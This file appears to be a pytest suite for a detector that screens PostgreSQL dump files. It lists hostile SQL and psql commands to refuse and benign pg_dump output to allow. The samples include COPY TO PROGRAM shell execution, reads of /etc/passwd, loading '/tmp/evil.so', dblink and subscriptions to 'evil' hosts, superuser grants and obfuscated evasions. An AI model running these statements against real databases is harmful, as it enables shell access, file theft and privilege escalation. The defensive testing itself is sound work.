"""What a dump must never do is seen, however it is written; what pg_dump writes is let through."""

import pytest

from harness.model import Severity
from harness.postgres.hostile import (
    bare,
    changes_reading,
    changes_rows_late,
    classify,
    classify_insert,
    classify_meta,
)

REFUSED = [
    ("COPY t TO PROGRAM 'sh'", "program"),
    ("COPY t/**/FROM/* x */PROGRAM $$sh$$", "program"),
    ("COPY t TO '/tmp/x' /* FROM STDIN */", "server-file"),
    ("COPY t FROM '/etc/passwd' -- FROM STDIN", "server-file"),
    ("COPY \"FROM STDIN\" TO E'/tmp/x'", "server-file"),
    ("COPY pg_catalog.pg_authid FROM stdin", "catalog"),
    ("WITH a AS (UPDATE pg_authid SET rolsuper = true RETURNING 1) SELECT 1 FROM a", "catalog"),
    ("EXPLAIN ANALYZE DELETE FROM pg_catalog.pg_trigger", "catalog"),
    ("DO $$ BEGIN UPDATE pg_proc SET prosrc = 'x'; END $$", "catalog"),
    ("ALTER SYSTEM SET archive_command = 'x'", "alter-system"),
    ("alter /* /* nested */ */ system reset all", "alter-system"),
    ("LOAD '/tmp/evil.so'", "library"),
    ("SET session_preload_libraries = 'evil'", "library"),
    ("SET dynamic_library_path TO '/tmp'", "library"),
    ("SELECT pg_read_file('/etc/passwd')", "function"),
    ("(SELECT pg_ls_dir('/'))", "function"),
    ("VALUES (lo_import('/etc/passwd'))", "function"),
    ("SELECT \"pg_read_file\" ('x')", "function"),
    ("SELECT U&\"pg_re\\0061d_file\"('x')", "function"),
    ("SELECT pg_catalog.lo_export(1, '/tmp/x')", "function"),
    ("WITH a AS (SELECT dblink('host=evil', 'x')) SELECT 1", "function"),
    ("SELECT pg_sleep(1e9)", "function"),
    ("CREATE MATERIALIZED VIEW v AS SELECT dblink('x')", "function"),
    ('CREATE TABLE "a"."b" AS SELECT pg_read_file(1)', "function"),
    ("CREATE TABLE /* */ t AS SELECT pg_read_file(1)", "function"),
    ("CREATE INDEX i ON t (pg_stat_file(a))", "function"),
    ("ALTER TABLE t ADD COLUMN a text DEFAULT pg_read_file('x')", "function"),
    ("PREPARE a AS SELECT pg_read_binary_file('x')", "function"),
    ("DO $$ BEGIN COPY t TO PROGRAM 'sh'; END $$", "do"),
    ("DO 'BEGIN EXECUTE ''ALTER SYSTEM SET x = 1''; END'", "do"),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "subscription"),
    ("CREATE SUBSCRIPTION s CONNECTION 'options=''connect=false''' PUBLICATION p", "subscription"),
    ("ALTER SUBSCRIPTION s ENABLE", "subscription"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "foreign"),
    ("CREATE FUNCTION f() RETURNS int AS '/tmp/evil', 'f' LANGUAGE c", "library"),
    ("UPDATE pg_authid SET rolpassword = NULL", "catalog"),
    ('DELETE FROM ONLY "pg_catalog"."pg_trigger"', "catalog"),
]
TOLD = [
    ("DO $$ BEGIN PERFORM 1; END $$", "do", Severity.MEDIUM),
    ("DO $$ BEGIN EXECUTE 'CO' || 'PY t TO PRO' || 'GRAM'; END $$", "do", Severity.HIGH),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'", "untrusted-language", Severity.MEDIUM),
    (
        "CREATE FUNCTION f() RETURNS int AS 'LANGUAGE sql' LANGUAGE plperlu",
        "untrusted-language",
        Severity.MEDIUM,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN COPY t TO PROGRAM 'sh'; END $$",
        "program-in-function",
        Severity.HIGH,
    ),
    ("CREATE MATERIALIZED VIEW v AS SELECT dblink('x') WITH NO DATA", "function", Severity.MEDIUM),
    ("CREATE VIEW v AS SELECT pg_ls_waldir()", "function", Severity.MEDIUM),
    ("CREATE TABLE t (a int DEFAULT dblink('x'))", "function", Severity.MEDIUM),
    ("ALTER TABLE ONLY t ALTER COLUMN a SET DEFAULT dblink('x')", "function", Severity.MEDIUM),
    ("SELECT count(*) FROM t", "select", Severity.INFO),
    ("CREATE ROLE evil LOGIN SUPERUSER PASSWORD 'x'", "power", Severity.HIGH),
    ('ALTER USER "a b" WITH SUPERUSER', "power", Severity.HIGH),
    ("GRANT pg_execute_server_program TO app", "power", Severity.HIGH),
    ("SELECT set_config('standard_conforming_strings', 'off', false)", "strings", Severity.HIGH),
]
FINE = [
    'COPY public.t (program, stdin, "PROGRAM") FROM stdin',
    "COPY public.pg_stat_history (a) FROM stdin",
    "SELECT pg_catalog.set_config('search_path', '', false)",
    "SELECT pg_catalog.setval('public.s', 7, true)",
    "SELECT pg_catalog.lo_create('4242')",
    "SELECT * FROM pg_catalog.pg_restore_relation_stats('version', '180000'::integer)",
    "SELECT pg_catalog.lowrite(0, '\\x00')",
    "UPDATE pg_catalog.pg_database SET datistemplate = false WHERE datname = 'template1'",
    "CREATE TABLE t (a text DEFAULT 'COPY x TO PROGRAM')",
    "CREATE ROLE app NOSUPERUSER LOGIN",
    "ALTER ROLE postgres WITH SUPERUSER LOGIN PASSWORD 'md5x'",  # it is one everywhere
    "CREATE ROLE app PASSWORD ' SUPERUSER '",
    "CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x SUPERUSER y')",
    "GRANT SELECT ON TABLE public.t TO pg_read_server_files",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '$libdir/pg_trgm', 'f'",
    "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p WITH (connect = false, slot_name = 's')",
    "ALTER TABLE t ADD CONSTRAINT c CHECK (a <> 'ALTER SYSTEM')",
    "COMMENT ON TABLE t IS 'DO $$ pg_read_file(1) $$'",
    "GRANT ALL ON FUNCTION pg_catalog.pg_ls_dir(text) TO monitor",
    "REVOKE ALL ON FUNCTION pg_catalog.pg_sleep(double precision) FROM PUBLIC",
    "COMMENT ON FUNCTION public.dblink_mine(text) IS 'x'",
    "ALTER FUNCTION public.dblink_mine(text) OWNER TO app",
]


@pytest.mark.parametrize(("sql", "kind"), REFUSED)
def test_what_reaches_outside_is_refused(sql, kind):
    danger = classify(sql.encode())
    assert danger is not None
    assert (danger.kind, danger.refuse) == (kind, True)
    assert danger.severity.rank >= Severity.HIGH.rank


@pytest.mark.parametrize(("sql", "kind", "severity"), TOLD)
def test_what_only_looks_odd_is_told_and_sent(sql, kind, severity):
    danger = classify(sql.encode())
    assert danger is not None
    assert (danger.kind, danger.severity, danger.refuse) == (kind, severity, False)


@pytest.mark.parametrize("sql", FINE)
def test_what_pg_dump_writes_is_no_danger(sql):
    assert classify(sql.encode()) is None


@pytest.mark.parametrize(
    ("sql", "bad"),
    [
        ("INSERT INTO t VALUES (pg_read_file('x'))", True),
        ("INSERT INTO pg_catalog.pg_authid VALUES (1)", True),
        ("INSERT INTO t VALUES ('pg_read_file(1)', E'lo_import(\\'x\\')')", False),
        ("INSERT INTO public.pg_authid VALUES (1)", False),
    ],
)
def test_inserts(sql, bad):
    assert bool(classify_insert(sql.encode())) is bad


@pytest.mark.parametrize(
    "text",
    [
        "\\! touch x",
        "\\copy t to 'x'",
        "\\i /etc/passwd",
        "\\o x",
        "\\g | sh",
        "\\set x `sh`",
        "\\connect `sh`",
        "\\lo_import x",
        "\\setenv A b",
        "\\gexec",
        "\\set ON_ERROR_STOP off",
        "\\restrict a b",
        "\\connect db user",
        "\\connect db user evil.example 5432",
        "\\c postgresql://evil.example/db",
        "\\connect host=evil.example",
        "\\connect -reuse-previous=on \"dbname='x' host=evil\"",
        "\\connect",
    ],
)
def test_meta_commands_are_critical(text):
    danger = classify_meta(text)
    assert danger is not None
    assert (danger.severity, danger.refuse) == (Severity.CRITICAL, True)


@pytest.mark.parametrize(
    "text",
    [
        "\\connect email_gateway",
        '\\connect "odd ""name"',
        "\\connect -reuse-previous=on \"dbname='we\\'ird'\"",
        "\\c - postgres",
        "\\restrict Ab3",
        "\\unrestrict Ab3",
        "\\.",
    ],
)
def test_meta_commands_of_pg_dump(text):
    assert classify_meta(text) is None


def test_bare_text_has_no_strings_and_no_comments():
    assert bare(b"/* a /* b */ */ SELECT 'x;y', E'\\'', $a$ ; $a$, \"q\" --c\n, a$1") == (
        b"SELECT '', '', '', \"\"  \n, a$1"
    )


@pytest.mark.parametrize(
    ("sql", "late"),
    [
        ("UPDATE t SET a = 1", True),
        ("DELETE FROM t", True),
        ("SELECT f()", True),
        ("SELECT pg_catalog.setval('s', 1)", False),
        ("CREATE INDEX i ON t (a)", False),
    ],
)
def test_what_may_change_rows_after_they_were_proven(sql, late):
    assert changes_rows_late(sql.encode()) is late


@pytest.mark.parametrize(
    "text",
    ["\\set ON_ERROR_STOP on", "\\echo restoring", "\\timing off", "\\encoding UTF8", "\\pset pager off"],
)
def test_settings_of_psql_harm_nobody(text):
    danger = classify_meta(text)
    assert danger is not None
    assert (danger.severity, danger.refuse) == (Severity.MEDIUM, False)


@pytest.mark.parametrize(
    "text", ["\\set AUTOCOMMIT off", "\\echo `id`", "\\encoding LATIN1", "\\echo a \\! id", "\\set ECHO :x"]
)
def test_settings_that_change_what_is_sent_are_critical(text):
    danger = classify_meta(text)
    assert danger is not None and danger.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    ("sql", "changes"),
    [
        ('ALTER TABLE ONLY "A b"."c d" ADD CONSTRAINT x CHECK (true)', False),
        ("ALTER TABLE ONLY public.a\n    ADD CONSTRAINT x PRIMARY KEY (id)", False),
        ("ALTER TABLE public.a ENABLE ROW LEVEL SECURITY", False),
        ("ALTER TABLE ONLY public.a REPLICA IDENTITY FULL", False),
        ("ALTER TABLE public.a ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY (START 1)", False),
        ("ALTER INDEX public.i ATTACH PARTITION public.j", False),
        ("ALTER TYPE public.e OWNER TO x", False),
        ("CREATE MATERIALIZED VIEW m AS SELECT 1 WITH NO DATA", False),
        ("CREATE TABLE public.a (id int)", False),
        ("ALTER TABLE public.a ALTER COLUMN s DROP EXPRESSION", True),
        ("ALTER TABLE a RENAME TO b", True),
        ("ALTER SCHEMA a RENAME TO b", True),
        ("ALTER TYPE public.e RENAME VALUE 'a' TO 'b'", True),
        ("CREATE MATERIALIZED VIEW m AS SELECT 1", True),
        ("CREATE TABLE public.a AS SELECT 1", True),
        ("CREATE EVENT TRIGGER e ON ddl_command_end", True),
        ("DROP VIEW x", True),
    ],
)
def test_what_may_change_rows_that_are_in(sql, changes):
    assert changes_reading(sql.encode(), rows=True) == changes
